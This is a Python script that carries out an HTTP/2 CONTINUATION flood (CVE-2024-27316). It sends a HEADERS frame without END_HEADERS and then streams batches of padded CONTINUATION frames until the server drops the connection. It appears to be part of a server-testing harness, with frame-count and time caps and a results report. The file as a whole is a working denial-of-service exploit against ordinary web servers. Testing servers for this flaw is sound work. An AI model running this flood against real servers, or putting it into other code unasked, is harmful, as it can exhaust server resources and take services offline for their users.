#!/usr/bin/python3
"""CONTINUATION flood (CVE-2024-27316 and relatives): HEADERS without END_HEADERS, then CONTINUATION frames that
never end the block, each carrying header fields, until the server ends the connection or the budget runs out."""
import time

from h2wire import Conn, ContinuationFrame, HeadersFrame, common_args, frame_bytes

p = common_args(__doc__)
p.add_argument("--count", type=int, default=200000, help="CONTINUATION frames at most")
p.add_argument("--frame-bytes", type=int, default=1024, help="header block bytes per CONTINUATION frame")
p.add_argument("--batch", type=int, default=64)
a = p.parse_args()
c = Conn(a)
c.wait(lambda: c.server_settings, 2)
sid = c.new_stream_id()
h = HeadersFrame(sid)
h.data = c.enc.encode(c.request_headers("/small.txt"))
h.flags.add("END_STREAM")
c.send(h)
# A literal field without indexing, new name: 0x00, name, value; repeated to fill each frame.
field = b"\x00\x05x-pad\x40" + b"v" * 64
chunk = field * max(1, a.frame_bytes // len(field))
sent = 0
deadline = time.monotonic() + min(a.seconds, 10)
while sent < a.count and not c.ended() and time.monotonic() < deadline:
    frames = []
    for _ in range(a.batch):
        f = ContinuationFrame(sid)
        f.data = chunk
        frames.append(f)
    if not c.send_raw(frame_bytes(frames)):
        break
    sent += a.batch
    c.pump(0)
c.wait(c.ended, 2)
st = c.streams[sid]
c.report(continuations_sent=sent, header_block_bytes=sent * len(chunk), stream_status=st.status,
         stream_reset=st.reset)
